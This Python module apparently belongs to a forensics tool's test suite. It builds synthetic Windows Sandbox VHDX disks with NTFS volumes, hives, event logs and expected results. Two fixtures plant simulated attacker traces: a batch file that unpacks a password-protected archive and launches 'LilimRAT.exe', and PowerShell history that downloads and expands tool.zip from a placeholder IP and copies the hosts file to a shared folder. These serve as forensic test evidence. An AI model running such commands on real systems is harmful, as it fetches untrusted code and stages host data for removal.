"""Windows Sandbox storage files for the host scenario (SCENARIO.md), with ground truth.

Why: sandtrace must find sandbox disks on a host volume, open them with their
base layer, and parse what ran inside (issue 6). No real sandbox disk can be
shared, so this module *builds* them, deterministically, and says exactly
what every reader must find in them. ``build(workdir)`` returns the files that
test_images/build.py plants on the host NTFS volume (``PlantedFile``), each
with the host $SI times it must carry and a ``truth`` dict for expected.json.

What is built (GUIDs and times from SCENARIO.md; docs/domain.md §2, §5, §6):

* ``BaseImages\\<base>\\BaseLayer.vhdx``: dynamic VHDX, MBR disk, one NTFS
  partition labelled ``PortableBaseLayer`` holding ``Files\\`` (pristine OS
  files, the template ``ntuser.dat``, SAM and event logs) and ``Hives\\``.
* ``ContainerStorages\\<s1>\\sandbox.vhdx`` (live): block-level differencing
  VHDX on the base layer (parent locator with relative and absolute paths);
  its volume is the base volume plus session 1's writes made through
  ntfs-3g (WDAGUtilityAccount profile, event logs, SAM, one WCI placeholder),
  with ``sandbox.vmgs`` and ``Bindings\\config.json`` beside it.
* ``ContainerStorages\\<s2>\\sandbox.vhdx`` (deleted, MFT record intact):
  differencing on the base layer, session 2's logon and one Desktop file.
* ``ContainerStorages\\<s3>\\sandbox.vhdx`` (deleted, record reused, carvable):
  a self-contained dynamic VHDX whose NTFS is a standalone scratch volume
  (model (b) of docs/domain.md §2: unchanged files are WCI placeholders).

Every tool clock is faked (libfaketime), GUIDs are fixed or derived from
fixed seeds, so two builds give byte-identical files. Run as root (mkntfs
and ntfs-3g FUSE mounts). Inferences are marked [I] in docstrings and in
the truth's ``notes``.
"""

from __future__ import annotations

import dataclasses
import datetime
import glob
import hashlib
import io
import json
import os
import pathlib
import shutil
import struct
import subprocess
import tempfile
import time
import uuid
import zipfile
from typing import Any, Optional

from test_images import ntfs_raw, sam
from test_images.writers import regf, vhdx
from test_images.writers.evtx import EvtxLog, Guid, HexInt32, HexInt64, SizeT, Sid

# --------------------------------------------------------------- identifiers --

BASE_GUID = "0949cec7-8165-4167-8c7d-67cf14eeede0"
SANDBOX1_GUID = "5d1f3a2b-7c4e-4b8a-9f10-2a3b4c5d6e71"
SANDBOX2_GUID = "8e2a6c1d-3f5b-4d7e-a1c9-0b2d4f6a8c93"
SANDBOX3_GUID = "c3b9e7f1-2a4d-4c6e-8b0f-1d3e5a7c9b24"

CONTAINERS = "\\ProgramData\\Microsoft\\Windows\\Containers"
BASE_VHDX = f"{CONTAINERS}\\BaseImages\\{BASE_GUID}\\BaseLayer.vhdx"
BASE_VHDX_ABSOLUTE = "C:" + BASE_VHDX
# From ContainerStorages\<GUID>\ up two levels to Containers\.
BASE_VHDX_RELATIVE = f"..\\..\\BaseImages\\{BASE_GUID}\\BaseLayer.vhdx"


def storage_path(guid: str, name: str) -> str:
    """Host path of a file in a ContainerStorages folder."""
    return f"{CONTAINERS}\\ContainerStorages\\{guid}\\{name}"


GUEST_COMPUTER = "A8DC5139-5E6D-4"
# [I] The guest's machine SID is not documented; the guest is built from the
# host OS image but is a separate machine, so it gets its own fixed SID.
GUEST_MACHINE_SID = "S-1-5-21-2873641205-1629750384-3356810972"
WDAG = "WDAGUtilityAccount"
WDAG_SID = GUEST_MACHINE_SID + "-504"
WDAG_COMMENT = ("A user account managed and used by the system for Windows Defender "
                "Application Guard scenarios.")
PROFILE = f"Users\\{WDAG}"
TEMPLATE_COMPUTER = "MINWINPC"  # [I] name Windows images carry before specialization

SECURITY_PROVIDER = ("Microsoft-Windows-Security-Auditing",
                     "{54849625-5478-4994-a5ba-3e3b0328c30d}")
SCM_PROVIDER = ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")
EVENTLOG_PROVIDER = "EventLog"
KERNEL_GENERAL = ("Microsoft-Windows-Kernel-General", "{a68ca8b7-004f-d7b6-a698-07e2de0f1f5d}")
USERASSIST_GUID = "{CEBFF5CD-ACE2-4F4F-9178-9926F41749EA}"
SYSTEM32_FOLDER = "{1AC14E77-02E7-4E5D-B744-2EB1AE5198B7}"
IO_REPARSE_TAG_WCI = 0x80000018

MiB = 1024 * 1024
SECTOR = 512
DISK_SIZE = 10 * MiB
PARTITION_OFFSET = 1 * MiB  # Windows' 1 MiB alignment
PARTITION_SIZE = DISK_SIZE - PARTITION_OFFSET
MBR_SIGNATURES = {BASE_GUID: 0x0949CEC7, SANDBOX3_GUID: 0xC3B9E7F1}
VHDX_CREATOR = "Microsoft Windows 10.0.26100.2161"  # [I] the form Windows writes

FILETIME_EPOCH_DELTA = 116444736000000000
LIBFAKETIME = next(iter(sorted(glob.glob("/usr/lib/*/faketime/libfaketime.so.1"))),
                   "/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1")
REQUIRED_TOOLS = ("mkntfs", "ntfs-3g", "umount")

TIME_DESC = {"creation": "Creation Time", "modification": "Content Modification Time",
             "access": "Last Access Time", "entry_modification": "Metadata Modification Time"}


# -------------------------------------------------------------------- time --

def ft(text: str) -> int:
    """FILETIME from 'YYYY-MM-DD HH:MM:SS[.fffffff]' (UTC)."""
    whole, _, frac = text.partition(".")
    moment = datetime.datetime.strptime(whole, "%Y-%m-%d %H:%M:%S").replace(
        tzinfo=datetime.timezone.utc)
    return int(moment.timestamp()) * 10_000_000 + FILETIME_EPOCH_DELTA + int(frac.ljust(7, "0"))


def plaso_us(filetime: int) -> int:
    """Microseconds since 1970 as dfdatetime's Filetime.GetPlasoTimestamp gives
    them: the 100 ns digit is rounded half up, not truncated."""
    return (filetime - FILETIME_EPOCH_DELTA + 5) // 10


def iso(filetime: int) -> str:
    """ISO 8601 with all seven fractional digits (for reading the truth)."""
    seconds, ticks = divmod(filetime - FILETIME_EPOCH_DELTA, 10_000_000)
    moment = datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc)
    return moment.strftime("%Y-%m-%dT%H:%M:%S") + f".{ticks:07d}+00:00"


def clock_text(filetime: int) -> str:
    """libfaketime's absolute time format (whole seconds, floor)."""
    seconds = (filetime - FILETIME_EPOCH_DELTA) // 10_000_000
    return datetime.datetime.fromtimestamp(seconds, datetime.timezone.utc).strftime(
        "%Y-%m-%d %H:%M:%S")


def floor_second(filetime: int) -> int:
    return filetime - (filetime - FILETIME_EPOCH_DELTA) % 10_000_000


@dataclasses.dataclass(frozen=True)
class Times:
    """Four NTFS times (FILETIMEs) named as plaso names them.

    entry_modification is what ntfs-3g's clock reads when the times are set,
    so for $STANDARD_INFORMATION it must be a whole second."""
    creation: int
    modification: int
    access: int
    entry_modification: int

    @classmethod
    def of(cls, c: str, m: str, a: str, e: str) -> "Times":
        return cls(ft(c), ft(m), ft(a), ft(e))

    @classmethod
    def same(cls, text: str) -> "Times":
        """All four equal: what Windows leaves in $FILE_NAME of a new file."""
        value = ft(text)
        return cls(value, value, value, value)

    def as_dict(self) -> dict[str, int]:
        return dataclasses.asdict(self)


# ---------------------------------------------------------- the interface --

@dataclasses.dataclass
class PlantedFile:
    """One file for build.py to put on the host volume."""
    path: str                 # NTFS path on the host volume, backslash form
    data: bytes
    times: dict[str, int]     # $SI FILETIMEs: creation, modification, access, entry_modification
    state: str                # "live" | "deleted" | "carvable"
    deleted_at: Optional[int]  # FILETIME of the deletion, for deleted/carvable
    truth: dict


@dataclasses.dataclass
class InnerFile:
    """A file inside a sandbox disk's NTFS volume.

    ``clock`` is ntfs-3g's time while the file is created (so its parent
    folders get plausible times); it defaults to ``si.creation``. ``fn`` is
    written into the MFT record after unmounting (ntfs-3g cannot set it).
    ``events`` are the non-filesystem events the file's content yields."""
    path: str                                  # inside the volume, no leading "\"
    data: bytes
    si: Times
    fn: Times
    kind: str                                  # what the file is, for the truth
    template: bool = False
    reparse: Optional[bytes] = None            # raw reparse buffer (WCI placeholder)
    clock: Optional[int] = None
    events: list[dict] = dataclasses.field(default_factory=list)
    info: dict = dataclasses.field(default_factory=dict)


# ---------------------------------------------------------- running tools --

def _run(args: list[str], env: Optional[dict] = None) -> str:
    result = subprocess.run(args, env=env, stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True)
    if result.returncode:
        raise RuntimeError(f"{args[0]} failed ({result.returncode}):\n{result.stdout}")
    return result.stdout


def environment_problems() -> list[str]:
    """What is missing to run the build (empty list: ready)."""
    problems = [] if os.geteuid() == 0 else ["not root"]
    problems += [tool for tool in REQUIRED_TOOLS if not shutil.which(tool)]
    if not os.path.exists(LIBFAKETIME):
        problems.append(LIBFAKETIME)
    return problems


class Clock:
    """A libfaketime clock file, re-read on every call, so the ntfs-3g
    daemon's time can follow the story while it runs."""

    def __init__(self, path: pathlib.Path) -> None:
        self.path = path

    def set(self, filetime: int) -> None:
        tmp = self.path.with_suffix(".new")
        tmp.write_text(clock_text(filetime) + "\n")
        os.replace(tmp, self.path)

    def env(self) -> dict[str, str]:
        env = dict(os.environ, TZ="UTC", LD_PRELOAD=LIBFAKETIME,
                   FAKETIME_TIMESTAMP_FILE=str(self.path), FAKETIME_NO_CACHE="1")
        env.pop("FAKETIME", None)
        return env


class Mount:
    """ntfs-3g in the foreground (no_detach) so that unmounting is synchronous."""

    def __init__(self, image: pathlib.Path, point: pathlib.Path, clock: Clock) -> None:
        self.image, self.point, self.clock = image, point, clock

    def __enter__(self) -> pathlib.Path:
        self.point.mkdir(parents=True, exist_ok=True)
        self.process = subprocess.Popen(
            ["ntfs-3g", "-o", "noatime,no_detach", str(self.image), str(self.point)],
            env=self.clock.env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        deadline = time.monotonic() + 20
        while not os.path.ismount(self.point):
            if self.process.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"ntfs-3g did not mount {self.image}")
            time.sleep(0.05)
        return self.point

    def __exit__(self, *exc: Any) -> None:
        _run(["umount", str(self.point)])
        if self.process.wait(timeout=60):
            raise RuntimeError(f"ntfs-3g exited with {self.process.returncode}")


# ------------------------------------------------------------ NTFS volumes --

def format_volume(path: pathlib.Path, label: str, when: int) -> None:
    """mkntfs under a frozen clock (it seeds serial number and GUIDs from it)."""
    with open(path, "wb") as handle:
        handle.truncate(PARTITION_SIZE)
    args = ["mkntfs", "-q", "-F", "-f", "-s", str(SECTOR), "-c", "4096",
            "-p", str(PARTITION_OFFSET // SECTOR), "-H", "255", "-S", "63"]
    if label:
        args += ["-L", label]
    env = dict(os.environ, TZ="UTC", LD_PRELOAD=LIBFAKETIME, FAKETIME=clock_text(when))
    _run(args + [str(path)], env=env)


def populate(volume: pathlib.Path, files: list[InnerFile], work: pathlib.Path,
             mounted_at: int, unmounted_at: int) -> dict[str, int]:
    """Write ``files`` through ntfs-3g in creation order, with the clock
    following the story; returns {inner path: MFT entry}.

    A WCI placeholder gets its reparse buffer (``system.ntfs_reparse_data``)
    before its times, because setting the reparse point stamps the times;
    after it ntfs-3g can no longer stat the file (no plugin for the tag)."""
    clock = Clock(work / "clock")
    clock.set(mounted_at)
    entries: dict[str, int] = {}
    with Mount(volume, work / "mnt", clock) as root:
        for inner in sorted(files, key=lambda f: (f.clock or f.si.creation, f.path)):
            target = root / inner.path.replace("\\", "/")
            clock.set(floor_second(inner.clock or inner.si.creation))
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(inner.data)
            entries[inner.path] = os.stat(target).st_ino
            if inner.reparse is not None:
                os.setxattr(target, "system.ntfs_reparse_data", inner.reparse)
            if (inner.si.entry_modification - FILETIME_EPOCH_DELTA) % 10_000_000:
                raise ValueError(f"{inner.path}: $SI entry_modification must be whole seconds")
            clock.set(inner.si.entry_modification)
            os.setxattr(target, "system.ntfs_times", struct.pack(
                "<3Q", inner.si.creation, inner.si.modification, inner.si.access))
        clock.set(unmounted_at)
    return entries


def patch_and_check(volume_path: pathlib.Path, files: list[InnerFile],
                    entries: dict[str, int]) -> ntfs_raw.NtfsVolume:
    """Write each file's $FILE_NAME times into its MFT record, then read the
    record back and check $SI, $FN, data and reparse point; records the MFT
    entry and sequence in ``inner.info``."""
    volume = ntfs_raw.NtfsVolume(str(volume_path), 0)
    for inner in files:
        entry = entries[inner.path]
        record = volume.read_record(entry)
        names = [a for a in ntfs_raw.attributes(record) if a["type"] == ntfs_raw.ATTR_FILE_NAME]
        if len(names) != 1:
            raise RuntimeError(f"{inner.path}: expected one $FILE_NAME")
        offset = names[0]["value_offset"] + 8
        record[offset:offset + 32] = ntfs_raw.pack_times(
            inner.fn.creation, inner.fn.modification, inner.fn.entry_modification,
            inner.fn.access)
        volume.write_record(entry, record)

        record = volume.read_record(entry)
        header = ntfs_raw.record_header(record)
        attrs = {a["type"]: a for a in ntfs_raw.attributes(record)}
        si, fnv = attrs[ntfs_raw.ATTR_STANDARD_INFORMATION], attrs[ntfs_raw.ATTR_FILE_NAME]
        want_si = (inner.si.creation, inner.si.modification, inner.si.entry_modification,
                   inner.si.access)
        if ntfs_raw.filetimes(si["value"]) != want_si:
            raise RuntimeError(f"{inner.path}: $SI on disk is {ntfs_raw.filetimes(si['value'])}")
        name = fnv["value"][0x42:0x42 + 2 * fnv["value"][0x40]].decode("utf-16-le")
        if name != inner.path.rsplit("\\", 1)[-1]:
            raise RuntimeError(f"{inner.path}: MFT entry {entry} is {name!r}")
        data = attrs[ntfs_raw.ATTR_DATA]
        if data["non_resident"]:
            stored = b"".join(volume.read_clusters(lcn, n) for _, n, lcn in data["runs"])
        else:
            stored = data["value"]
        if stored[:len(inner.data)] != inner.data:
            raise RuntimeError(f"{inner.path}: data differs on disk")
        if inner.reparse is not None:
            reparse = attrs.get(0xC0)
            if reparse is None or reparse["value"] != inner.reparse:
                raise RuntimeError(f"{inner.path}: $REPARSE_POINT differs")
        parent = struct.unpack_from("<Q", fnv["value"])[0]
        inner.info.update(mft_entry=entry, mft_sequence=header["sequence"],
                          parent_mft_entry=parent & (2**48 - 1),
                          file_attribute_flags=struct.unpack_from("<I", si["value"], 32)[0],
                          data_resident=not data["non_resident"])
    return volume


def volume_facts(volume: ntfs_raw.NtfsVolume, label: str, format_time: int) -> dict:
    return {"filesystem": "NTFS", "label": label,
            "serial_number": f"{volume.serial_number:016X}",
            "cluster_size": volume.cluster_size, "mft_record_size": volume.record_size,
            "format_time": iso(format_time),
            "partition": {"table": "mbr", "index": 1, "type": 0x07,
                          "offset": PARTITION_OFFSET, "size": PARTITION_SIZE}}


def mbr_disk(volume: pathlib.Path, signature: int) -> bytes:
    """An MBR disk with one NTFS partition at 1 MiB holding ``volume``.

    [I] Disk Management shows PortableBaseLayer as an 8191 MB volume on an
    8 GB disk, which fits one 1 MiB-aligned MBR partition best."""
    mbr = bytearray(SECTOR)
    struct.pack_into("<I", mbr, 0x1B8, signature)
    struct.pack_into("<B3sB3sII", mbr, 0x1BE, 0x00, b"\xfe\xff\xff", 0x07, b"\xfe\xff\xff",
                     PARTITION_OFFSET // SECTOR, PARTITION_SIZE // SECTOR)
    mbr[510:512] = b"\x55\xaa"
    return bytes(mbr).ljust(PARTITION_OFFSET, b"\0") + volume.read_bytes()


# -------------------------------------------------------------- artifacts --

def mz_placeholder(name: str, size: int = 1536) -> bytes:
    """An inert stand-in for a Windows binary: MZ header text, then filler."""
    head = b"MZ" + f"\0sandtrace placeholder for {name}; not executable\n".encode()
    filler = hashlib.sha256(name.encode()).hexdigest().encode()
    return (head + filler * (size // len(filler) + 1))[:size]


def wci_reparse_buffer(layer_guid: str, name: str) -> bytes:
    """A REPARSE_DATA_BUFFER with tag IO_REPARSE_TAG_WCI (0x80000018).

    [I] layout (wcifs is undocumented): tag u32, data length u16, reserved
    u16; then the WCI payload: version u32 (1), flags u32 (0), the layer
    (lookup) GUID (16 bytes, little-endian GUID form), name length u16 in
    bytes, and the UTF-16LE path of the file relative to the layer root."""
    encoded = name.encode("utf-16-le")
    payload = (struct.pack("<II", 1, 0) + uuid.UUID(layer_guid).bytes_le
               + struct.pack("<H", len(encoded)) + encoded)
    return struct.pack("<IHH", IO_REPARSE_TAG_WCI, len(payload), 0) + payload


def rot13(text: str) -> str:
    return text.translate(str.maketrans(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
        "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"))


def userassist_v5(count: int, focus_count: int, focus_ms: int, last_run: int) -> bytes:
    """The 72-byte Windows 7+ UserAssist entry (plaso's user_assist_entry_v5):
    unknown, run count, focus count, focus time (ms), ten floats and an
    unknown u32, last execution FILETIME at offset 60, unknown u32."""
    return (struct.pack("<IIII", 0, count, focus_count, focus_ms)
            + struct.pack("<10f", *([-1.0] * 10)) + struct.pack("<I", 0xFFFFFFFF)
            + struct.pack("<QI", last_run, 0))


def deterministic_zip(members: list[tuple[str, bytes]], when: tuple) -> bytes:
    """A stored (uncompressed) zip with fixed member times: no zlib version
    can change its bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=when)
            info.create_system = 0
            info.external_attr = 0x20  # FILE_ATTRIBUTE_ARCHIVE
            archive.writestr(info, data)
    return out.getvalue()


def crlf(text: str) -> bytes:
    return text.strip("\n").replace("\n", "\r\n").encode("utf-8") + b"\r\n"


# The host's share\run.bat as the guest sees it through the mapped folder;
# must match RUN_BAT in test_images/build.py.
RUN_BAT = crlf(r"""
@echo off
REM sandtrace test fixture: inert, the files it names do not exist.
cd /d C:\Users\WDAGUtilityAccount\Desktop\share
7z.exe x -y -pP@ssw0rd2025 data.7z -o%TEMP%\svc >nul
start "" /b %TEMP%\svc\LilimRAT.exe
""")

PSREADLINE_COMMANDS = [
    "whoami /all",
    "Invoke-WebRequest -Uri http://198.51.100.23/tool.zip -OutFile "
    "C:\\Users\\WDAGUtilityAccount\\Downloads\\tool.zip",
    "Expand-Archive -Path C:\\Users\\WDAGUtilityAccount\\Downloads\\tool.zip "
    "-DestinationPath $env:TEMP\\tool",
    "Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts | Out-File "
    "C:\\Users\\WDAGUtilityAccount\\Desktop\\share\\out\\hosts.txt",
]


def evtx_events(log: EvtxLog, inner_path: str, template: bool) -> list[dict]:
    """windows:evtx:record events (plaso attribute names) for every record,
    one per time attribute (creation_time and written_time)."""
    events = []
    for ev in log.events:
        base = {
            "data_type": "windows:evtx:record",
            "event_identifier": ev.event_id,
            "record_number": ev.record_id,
            "source_name": ev.provider,
            "provider_identifier": ev.provider_guid,
            "computer_name": log.computer,
            "hostname": log.computer,  # plaso's attribute name for <Computer>
            "channel": ev.channel,
            "event_level": ev.level,
            "event_version": ev.version,
            "user_sid": ev.user_sid,
            "event_data": {name: _render(value) for name, value in (ev.data or [])},
            "creation_time": plaso_us(ev.time_created),
            "template": template,
            "file": "\\" + inner_path,
        }
        for attribute, value, desc in (("creation_time", ev.time_created, "Creation Time"),
                                       ("written_time", ev.written_time,
                                        "Content Modification Time")):
            events.append(dict(base, timestamp=plaso_us(value), timestamp_desc=desc,
                               time_attribute=attribute, filetime=value))
    return events


def _render(value: Any) -> Any:
    """A substitution value as plain JSON (hex for the hex types)."""
    if isinstance(value, (HexInt32,)):
        return f"0x{value:08x}"
    if isinstance(value, (HexInt64, SizeT)):
        return f"0x{value:016x}"
    if isinstance(value, bytes):
        return value.hex().upper()  # as Event Viewer and the readers render it
    return value


def security_event(log: EvtxLog, event_id: int, when: int, task: int, *, data: list,
                   failure: bool = False, version: int = 0) -> None:
    """A Security-Auditing record as lsass writes it (level 0, no UserID)."""
    log.add(SECURITY_PROVIDER[0], event_id, when, provider_guid=SECURITY_PROVIDER[1],
            version=version, level=0, task=task, opcode=0,
            keywords=0x8010000000000000 if failure else 0x8020000000000000,
            process_id=652, thread_id=3140, written_time=when + 1372, data=data)


def logon_4624(log: EvtxLog, when: int, logon_id: int, linked: int) -> None:
    """4624 v2: interactive logon (type 2) of WDAGUtilityAccount, then 4672."""
    security_event(log, 4624, when, 12544, version=2, data=[
        ("SubjectUserSid", Sid("S-1-5-18")), ("SubjectUserName", GUEST_COMPUTER + "$"),
        ("SubjectDomainName", "WORKGROUP"), ("SubjectLogonId", HexInt64(0x3E7)),
        ("TargetUserSid", Sid(WDAG_SID)), ("TargetUserName", WDAG),
        ("TargetDomainName", GUEST_COMPUTER), ("TargetLogonId", HexInt64(logon_id)),
        ("LogonType", 2), ("LogonProcessName", "User32 "),
        ("AuthenticationPackageName", "Negotiate"), ("WorkstationName", GUEST_COMPUTER),
        ("LogonGuid", Guid("{00000000-0000-0000-0000-000000000000}")),
        ("TransmittedServices", "-"), ("LmPackageName", "-"), ("KeyLength", 0),
        ("ProcessId", HexInt64(0x2B4)), ("ProcessName", "C:\\Windows\\System32\\svchost.exe"),
        ("IpAddress", "127.0.0.1"), ("IpPort", "0"), ("ImpersonationLevel", "%%1833"),
        ("RestrictedAdminMode", "-"), ("TargetOutboundUserName", "-"),
        ("TargetOutboundDomainName", "-"), ("VirtualAccount", "%%1843"),
        ("TargetLinkedLogonId", HexInt64(linked)), ("ElevatedToken", "%%1842")])
    security_event(log, 4672, when, 12548, data=[
        ("SubjectUserSid", Sid(WDAG_SID)), ("SubjectUserName", WDAG),
        ("SubjectDomainName", GUEST_COMPUTER), ("SubjectLogonId", HexInt64(logon_id)),
        ("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\t"
                          "SeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\t"
                          "SeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\t"
                          "SeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\t"
                          "SeDelegateSessionUserImpersonatePrivilege")])


def scm_event(log: EvtxLog, event_id: int, when: int, data: list,
              user_sid: Optional[str] = None) -> None:
    """A Service Control Manager record (classic provider: Qualifiers 16384)."""
    log.add(SCM_PROVIDER[0], event_id, when, provider_guid=SCM_PROVIDER[1], qualifiers=16384,
            level=4, keywords=0x8080000000000000, process_id=708, thread_id=1912,
            user_sid=user_sid, data=data, written_time=when + 615)


# ------------------------------------------------------- the base layer --

BASE_FORMAT = ft("2025-01-14 06:18:09")


def template_ntuser() -> tuple[bytes, list[dict]]:
    """WDAGUtilityAccount's pristine ntuser.dat: a few keys dated at the OS
    install, a UserAssist key with an empty Count (nothing ran yet)."""
    t = ft("2024-03-04 08:24:11.5312500")
    hive = regf.Hive(root_name="ROOT", last_written=t,
                     file_name="\\??\\C:\\Users\\WDAGUtilityAccount\\ntuser.dat")
    hive.key("Environment", ft("2024-03-04 08:24:11.5468750")).set_value(
        "TEMP", regf.REG_EXPAND_SZ, "%USERPROFILE%\\AppData\\Local\\Temp").set_value(
        "TMP", regf.REG_EXPAND_SZ, "%USERPROFILE%\\AppData\\Local\\Temp")
    hive.key("Control Panel\\Desktop", ft("2024-03-04 08:24:11.5625000")).set_value(
        "Wallpaper", regf.REG_SZ, "C:\\Windows\\web\\wallpaper\\Windows\\img0.jpg")
    ua = hive.key(f"Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\UserAssist\\"
                  f"{USERASSIST_GUID}", ft("2024-03-04 08:24:11.5781250"))
    ua.set_value("Version", regf.REG_DWORD, 5)
    ua.key("Count", ft("2024-03-04 08:24:11.5781250"))
    data = hive.to_bytes()
    explorer = "Software\\Microsoft\\Windows\\CurrentVersion\\Explorer"
    userassist = f"{explorer}\\UserAssist\\{USERASSIST_GUID}"
    keys = ["Environment", "Control Panel\\Desktop", userassist, userassist + "\\Count"]
    times = {"Environment": ft("2024-03-04 08:24:11.5468750"),
             "Control Panel\\Desktop": ft("2024-03-04 08:24:11.5625000")}
    events = [{"data_type": "windows:registry:key_value", "key_path": "HKEY_CURRENT_USER\\" + k,
               "timestamp": plaso_us(times.get(k, ft("2024-03-04 08:24:11.5781250"))),
               "timestamp_desc": "Content Modification Time", "template": True}
              for k in keys]
    return data, events


def template_logs() -> dict[str, EvtxLog]:
    """The base layer's template Security and System logs: a couple of boot
    records from when the image was made (Sigma's base-layer evtx filter
    shows these files exist; their content is [I])."""
    security = EvtxLog("Security", TEMPLATE_COMPUTER)
    boot = ft("2024-03-04 08:20:31.2500000")
    security_event(security, 4608, boot, 12288, data=[])
    security_event(security, 4826, boot + 1_250_000, 13573, data=[
        ("SubjectUserSid", Sid("S-1-5-18")), ("SubjectUserName", "-"),
        ("SubjectDomainName", "-"), ("SubjectLogonId", HexInt64(0x3E7)),
        ("LoadOptions", "-"), ("AdvancedOptions", "%%1843"), ("ConfigAccessPolicy", "%%1846"),
        ("RemoteEventLogging", "%%1843"), ("KernelDebug", "%%1843"),
        ("VsmLaunchType", "%%1848"), ("TestSigning", "%%1843"),
        ("FlightSigning", "%%1843"), ("DisableIntegrityChecks", "%%1843"),
        ("HypervisorLoadOptions", "-"), ("HypervisorLaunchType", "%%1848"),
        ("HypervisorDebug", "%%1843")])
    system = EvtxLog("System", TEMPLATE_COMPUTER)
    system.add(KERNEL_GENERAL[0], 12, ft("2024-03-04 08:20:30.0000000"),
               provider_guid=KERNEL_GENERAL[1], version=2, level=4, task=1, opcode=0,
               keywords=0x8000000000000080, process_id=4, thread_id=8, user_sid="S-1-5-18",
               data=[("MajorVersion", 10), ("MinorVersion", 0), ("BuildVersion", 26100),
                     ("QfeVersion", 1), ("ServiceVersion", 0), ("BootMode", 0),
                     ("StartTime", "2024-03-04T08:20:29.5000000Z")])
    system.add(EVENTLOG_PROVIDER, 6005, ft("2024-03-04 08:20:41.0000000"), qualifiers=32768,
               level=4, keywords=0x80000000000000, process_id=1032, thread_id=1040, data=[])
    return {"Security.evtx": security, "System.evtx": system}


def template_sam() -> tuple[bytes, list[dict]]:
    """The base image's SAM: built-in accounts, WDAGUtilityAccount disabled
    and never used (as on any host). Each account yields only plaso's
    last_written_time (its Names key): no logon, no password set."""
    key_time = ft("2024-03-04 08:21:05.1250000")
    accounts = builtin_accounts(key_time, wdag_enabled=False)
    events = [{"data_type": "windows:registry:sam_users",
               "key_path": "HKEY_LOCAL_MACHINE\\SAM\\SAM\\Domains\\Account\\Users",
               "account_rid": a.rid, "username": a.name, "login_count": 0,
               "comments": a.comment, "fullname": "",
               "account_enabled": not a.flags & sam.ACB_DISABLED,
               "timestamp": plaso_us(key_time), "timestamp_desc": "Content Modification Time",
               "filetime": key_time, "template": True} for a in accounts]
    return sam.build_sam_hive(GUEST_MACHINE_SID, accounts, key_time), events


def builtin_accounts(key_time: int, wdag_enabled: bool, wdag_login: int = 0,
                     wdag_password_set: int = 0, wdag_key_time: int = 0) -> list[sam.SamAccount]:
    disabled = sam.ACB_DISABLED | sam.ACB_NORMAL | sam.ACB_DONT_EXPIRE
    return [
        sam.SamAccount(500, "Administrator", comment="Built-in account for administering the "
                       "computer/domain", flags=disabled, key_last_written=key_time),
        sam.SamAccount(501, "Guest", comment="Built-in account for guest access to the "
                       "computer/domain", flags=disabled | sam.ACB_PWNOTREQ, primary_gid=514,
                       key_last_written=key_time),
        sam.SamAccount(503, "DefaultAccount", comment="A user account managed by the system.",
                       flags=disabled | sam.ACB_PWNOTREQ, key_last_written=key_time),
        sam.SamAccount(504, WDAG, comment=WDAG_COMMENT,
                       flags=(sam.ACB_NORMAL | sam.ACB_DONT_EXPIRE) if wdag_enabled
                       else sam.ACB_DISABLED | sam.ACB_NORMAL,
                       login_count=1 if wdag_login else 0, last_login=wdag_login,
                       password_last_set=wdag_password_set, has_password=bool(wdag_password_set),
                       key_last_written=wdag_key_time or key_time),
    ]


def minimal_hive(file_name: str, when: int) -> bytes:
    """A nearly empty hive for the ``Hives\\*_Delta`` files. [I] Container
    layers keep per-hive delta hives there (hcsshim's DefaultUser_Delta,
    Sam_Delta, ...); real ones are layered hives, these are plain."""
    hive = regf.Hive(root_name="ROOT", last_written=when, file_name=file_name)
    return hive.to_bytes()


def base_layer_files() -> list[InnerFile]:
    """What the base layer's volume holds. Files were copied from the host's
    OS image when the layer was made (06:18:09): $SI creation is that copy,
    $SI modification is the original's (2024-03-04); all template."""
    made = "2025-01-14 06:18:"

    def pristine(path: str, data: bytes, kind: str, second: int, fraction: str,
                 modified: str, events: Optional[list[dict]] = None) -> InnerFile:
        created = f"{made}{second:02d}.{fraction}"
        return InnerFile(path, data,
                         si=Times.of(created, modified, created, f"{made}{second + 1:02d}"),
                         fn=Times.same(created), kind=kind, template=True,
                         events=events or [])

    ntuser, ntuser_events = template_ntuser()
    sam_data, sam_events = template_sam()
    logs = template_logs()
    files = [
        pristine("Files\\EFI\\Microsoft\\Boot\\bootmgfw.efi", mz_placeholder("bootmgfw.efi"),
                 "os_file", 10, "1250000", "2024-03-04 08:19:58.0000000"),
        pristine("Files\\Windows\\System32\\cmd.exe", mz_placeholder("cmd.exe"),
                 "os_file", 11, "2500000", "2024-03-04 08:19:59.0000000"),
        pristine("Files\\Windows\\System32\\notepad.exe", mz_placeholder("notepad.exe"),
                 "os_file", 11, "3750000", "2024-03-04 08:19:59.5000000"),
        pristine("Files\\Windows\\System32\\config\\SAM", sam_data, "sam_hive",
                 12, "0312500", "2024-03-04 08:21:05.1250000", sam_events),
        pristine("Files\\Users\\WDAGUtilityAccount\\ntuser.dat", ntuser, "ntuser_hive",
                 13, "4062500", "2024-03-04 08:24:11.5781250", ntuser_events),
        pristine("Hives\\DefaultUser_Delta", minimal_hive("DefaultUser_Delta",
                 ft("2025-01-14 06:18:15.0000000")), "delta_hive", 15, "0000000",
                 "2025-01-14 06:18:15.0000000"),
        pristine("Hives\\Sam_Delta", minimal_hive("Sam_Delta", ft("2025-01-14 06:18:15.5000000")),
                 "delta_hive", 15, "5000000", "2025-01-14 06:18:15.5000000"),
    ]
    for second, (name, log) in zip((16, 17), sorted(logs.items())):
